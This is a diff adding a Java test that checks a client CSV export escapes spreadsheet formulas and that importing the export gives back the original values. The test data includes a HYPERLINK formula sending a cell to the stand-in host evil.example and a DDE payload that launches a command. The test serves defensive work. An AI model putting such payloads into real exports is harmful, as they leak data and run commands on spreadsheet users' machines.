@@ -111,6 +111,36 @@ class BulkImportExportTest {
     }
 
     @Test
+    void anExportCannotRunFormulasInItsReadersSpreadsheetAndItsImportGivesBackTheOriginalValues() throws Exception {
+        String marker = "formula" + System.nanoTime();
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\") " + marker;
+        String command = "+cmd|' /C calc'!A0 " + marker;
+        for (String name : List.of(hyperlink, command)) {
+            as(h.token("a1")).body(Map.of("name", name)).post("/api/v1/clients").then().statusCode(201);
+        }
+        String csv = as(h.token("a1")).queryParam("q", marker).get("/api/v1/clients/export").then().statusCode(200).extract().asString();
+        var mapper = new com.fasterxml.jackson.dataformat.csv.CsvMapper();
+        List<Map<String, String>> rows = new java.util.ArrayList<>();
+        try (com.fasterxml.jackson.databind.MappingIterator<Map<String, String>> it = mapper.readerFor(Map.class)
+                .with(com.fasterxml.jackson.dataformat.csv.CsvSchema.emptySchema().withHeader()).readValues(csv)) {
+            it.forEachRemaining(rows::add);
+        }
+        List<String> cells = rows.stream().map(r -> r.get("name")).toList();
+        assertTrue(cells.contains("'" + hyperlink) && cells.contains("'" + command), cells.toString());
+        assertTrue(cells.stream().noneMatch(c -> "=+-@\t\r".indexOf(c.charAt(0)) >= 0), "a cell that starts a formula: " + cells);
+        // the export sent back, as a spreadsheet user would: the import gives back the original names
+        StringBuilder reimport = new StringBuilder("name\n");
+        for (String cell : cells) {
+            reimport.append('"').append(cell.replace("\"", "\"\"")).append("\"\n");
+        }
+        as(h.token("b1")).contentType("text/csv; charset=UTF-8").body(reimport.toString().getBytes(java.nio.charset.StandardCharsets.UTF_8))
+                .post("/api/v1/clients/import").then().statusCode(200).body("created", equalTo(cells.size()));
+        List<String> names = as(h.token("b1")).queryParam("q", marker).queryParam("limit", 200).get("/api/v1/clients")
+                .then().statusCode(200).extract().jsonPath().getList("items.name", String.class);
+        assertTrue(names.containsAll(List.of(hyperlink, command)), names.toString());
+    }
+
+    @Test
     void anExportRefusesTheListsPagingAndSyncParametersInsteadOfIgnoringThem() {
         for (String parameter : List.of("updatedSince", "limit", "cursor", "sort", "deleted")) {
             as(h.token("a1")).queryParam(parameter, "2026-01-01T00:00:00Z").get("/api/v1/clients/export").then().statusCode(400)
